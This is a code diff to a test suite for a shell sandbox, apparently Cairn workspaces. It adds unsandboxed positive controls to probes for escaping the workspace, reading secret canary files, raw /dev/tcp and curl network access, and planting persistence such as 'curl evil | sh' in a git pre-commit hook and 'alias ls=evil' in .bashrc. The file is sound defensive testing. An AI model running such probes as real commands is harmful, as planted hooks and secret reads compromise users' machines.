@@ -1,7 +1,7 @@
 import { execFileSync } from "node:child_process";
 import { randomBytes } from "node:crypto";
 import { createServer as createHttpServer } from "node:http";
-import { createServer, type AddressInfo, type Server } from "node:net";
+import { createServer, type AddressInfo, type Server, type Socket } from "node:net";
 import { mkdir, readdir, readFile, stat, writeFile } from "node:fs/promises";
 import { homedir } from "node:os";
 import { join } from "node:path";
@@ -13,6 +13,7 @@ let fixture: Fixture;
 let workspace: Workspace;
 const opened: Workspace[] = [];
 const servers: Server[] = [];
+const sockets: Socket[] = [];
 
 beforeEach(async () => {
   fixture = await makeFixture();
@@ -22,12 +23,36 @@ beforeEach(async () => {
 
 afterEach(async () => {
   await Promise.all(opened.splice(0).map((open) => open.dispose()));
+  for (const socket of sockets.splice(0)) socket.destroy();
   await Promise.all(servers.splice(0).map((server) => new Promise((resolve) => server.close(resolve))));
   await fixture.cleanup();
 });
 
+/** The same fixture without the sandbox: the positive control that shows a probe works when nothing refuses it. */
+async function openUnsandboxed(): Promise<Workspace> {
+  const unsandboxed = await openWorkspace(fixture, { sandbox: { enabled: false } });
+  opened.push(unsandboxed);
+  return unsandboxed;
+}
+
+/** A probe's exit status, printed as `label=N`. */
+function statusOf(stdout: string, label: string): number {
+  const match = new RegExp(`${label}=(\\d+)`).exec(stdout);
+  expect(match, `no ${label}= in ${JSON.stringify(stdout)}`).not.toBeNull();
+  return Number(match?.[1]);
+}
+
+/** Refused means it ran and failed: 127 (command not found) is a broken probe, never a refusal. */
+function expectRefused(stdout: string, label: string): void {
+  const status = statusOf(stdout, label);
+  expect(status, `${label} should fail`).not.toBe(0);
+  expect(status, `${label}: the probe's program is missing`).not.toBe(127);
+}
+
 const listen = async (server: Server): Promise<number> => {
   servers.push(server);
+  // A client may keep its end open after the server's reply; close() waits for every connection.
+  server.on("connection", (socket) => sockets.push(socket));
   await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
   return (server.address() as AddressInfo).port;
 };
@@ -45,6 +70,12 @@ describe("the sandbox refuses", () => {
     await expect(stat(join("/var/tmp", marker))).rejects.toThrow();
     expect(await readFile(join(fixture.root, "inside.txt"), "utf8")).toBe("ok\n");
     expect(await fixture.snapshotOutside()).not.toContain(marker);
+
+    const control = `cairn-control-${randomBytes(4).toString("hex")}`;
+    const unsandboxed = await (await openUnsandboxed()).exec(`echo ok > ../${control}; echo ok > ${fixture.outside}/${control}; echo "status=$?"`, execOptions());
+    expect(statusOf(unsandboxed.stdout, "status")).toBe(0);
+    expect(await readFile(join(fixture.base, control), "utf8")).toBe("ok\n");
+    expect(await readFile(join(fixture.outside, control), "utf8")).toBe("ok\n");
   });
 
   it("reading outside: sibling directories, the server's home and Cairn's state", async () => {
@@ -60,6 +91,9 @@ describe("the sandbox refuses", () => {
     expect(result.stdout + result.stderr).not.toContain(fixture.canary);
     expect(result.stdout.trim()).toBe(""); // the home directory looks empty inside
     expect((await readdir(homedir())).length).toBeGreaterThan(0); // ...though it is not
+
+    const unsandboxed = await (await openUnsandboxed()).exec(`cat ../canary.txt ${fixture.outside}/secret.txt`, execOptions());
+    expect(unsandboxed.stdout).toContain(fixture.canary);
   });
 
   it("network access, direct or through the proxy, to a server on this machine", async () => {
@@ -70,17 +104,22 @@ describe("the sandbox refuses", () => {
         socket.end("SERVER-REACHED\n");
       }),
     );
-    const result = await workspace.exec(
+    const probe =
       `(exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3); echo "tcp=$?"; ` +
-        `curl -fsS -m 5 --noproxy "" http://127.0.0.1:${port}/; echo "proxied=$?"; ` +
-        `curl -fsS -m 5 --noproxy "*" http://127.0.0.1:${port}/; echo "direct=$?"`,
-      execOptions({ timeoutMs: 30_000 }),
-    );
+      `curl -fsS -m 5 --noproxy "" --http0.9 http://127.0.0.1:${port}/; echo "proxied=$?"; ` +
+      `curl -fsS -m 5 --noproxy "*" --http0.9 http://127.0.0.1:${port}/; echo "direct=$?"`;
+    const result = await workspace.exec(probe, execOptions({ timeoutMs: 30_000 }));
     expect(result.stdout).not.toContain("SERVER-REACHED");
-    expect(result.stdout).toMatch(/tcp=[1-9]/);
-    expect(result.stdout).toMatch(/proxied=[1-9]/);
-    expect(result.stdout).toMatch(/direct=[1-9]/);
+    expectRefused(result.stdout, "tcp");
+    expectRefused(result.stdout, "proxied");
+    expectRefused(result.stdout, "direct");
     expect(connections).toBe(0);
+
+    const unsandboxed = await (await openUnsandboxed()).exec(probe, execOptions({ timeoutMs: 30_000 }));
+    expect(statusOf(unsandboxed.stdout, "tcp")).toBe(0);
+    expect(statusOf(unsandboxed.stdout, "proxied")).toBe(0);
+    expect(statusOf(unsandboxed.stdout, "direct")).toBe(0);
+    expect(connections).toBe(3);
   });
 
   it("everything but the allowed domains: an allowed host is reachable through the proxy", async () => {
@@ -124,17 +163,21 @@ describe("the sandbox refuses", () => {
     const hooked = await openWorkspace(fixture);
     opened.push(hooked);
     const configBefore = await readFile(join(fixture.root, ".git", "config"), "utf8");
-    const result = await hooked.exec(
+    const probe =
       "echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[alias] x = !evil' >> .git/config; " +
-        "mkdir -p .claude; echo '{\"hooks\":{}}' > .claude/settings.json; echo '{}' > .mcp.json; echo 'alias ls=evil' > .bashrc",
-      execOptions(),
-    );
+      "mkdir -p .claude; echo '{\"hooks\":{}}' > .claude/settings.json; echo '{}' > .mcp.json; echo 'alias ls=evil' > .bashrc";
+    const result = await hooked.exec(probe, execOptions());
     expect(result.stderr).toMatch(/Read-only file system|Permission denied/);
     await expect(stat(join(fixture.root, ".git", "hooks", "pre-commit"))).rejects.toThrow();
     expect(await readFile(join(fixture.root, ".git", "config"), "utf8")).toBe(configBefore);
     await hooked.dispose();
     // Once no shell runs, nothing the sandbox put in place is left behind, and nothing was written.
     expect((await readdir(fixture.root)).sort()).toEqual([".git"]);
+
+    const unsandboxed = await (await openUnsandboxed()).exec(`${probe}; echo "status=$?"`, execOptions());
+    expect(statusOf(unsandboxed.stdout, "status")).toBe(0);
+    expect(await readFile(join(fixture.root, ".git", "hooks", "pre-commit"), "utf8")).toBe("curl evil | sh\n");
+    expect(await readFile(join(fixture.root, ".bashrc"), "utf8")).toBe("alias ls=evil\n");
   });
 
   it("changes to the directory where the host puts command files, which would let the shell redirect host writes", async () => {
@@ -143,10 +186,13 @@ describe("the sandbox refuses", () => {
       execOptions(),
     );
     expect(result.stdout).toMatch(/cairn-ws-[^/]+\/run\n/);
-    expect(result.stdout).toMatch(/touch=[1-9]/);
-    expect(result.stdout).toMatch(/mv=[1-9]/);
-    expect(result.stdout).toMatch(/ln=[1-9]/);
+    expectRefused(result.stdout, "touch");
+    expectRefused(result.stdout, "mv");
+    expectRefused(result.stdout, "ln");
     expect((await workspace.exec("echo still working", execOptions())).stdout).toBe("still working\n");
+
+    const unsandboxed = await (await openUnsandboxed()).exec('touch "$(dirname "$BASH_SOURCE")/planted"; echo "touch=$?"', execOptions());
+    expect(statusOf(unsandboxed.stdout, "touch")).toBe(0);
   });
 
   it("links the shell plants to reach outside, in the shell and in file operations", async () => {
@@ -155,5 +201,8 @@ describe("the sandbox refuses", () => {
     await expect(workspace.readFile("planted")).rejects.toMatchObject({ code: "outside_workspace" });
     await expect(workspace.writeFile("planted-dir/new.txt", "x")).rejects.toMatchObject({ code: "outside_workspace" });
     expect(await fixture.snapshotOutside()).not.toContain("new.txt");
+
+    const unsandboxed = await (await openUnsandboxed()).exec("cat planted planted-dir/secret.txt", execOptions());
+    expect(unsandboxed.stdout).toContain(fixture.canary);
   });
 });
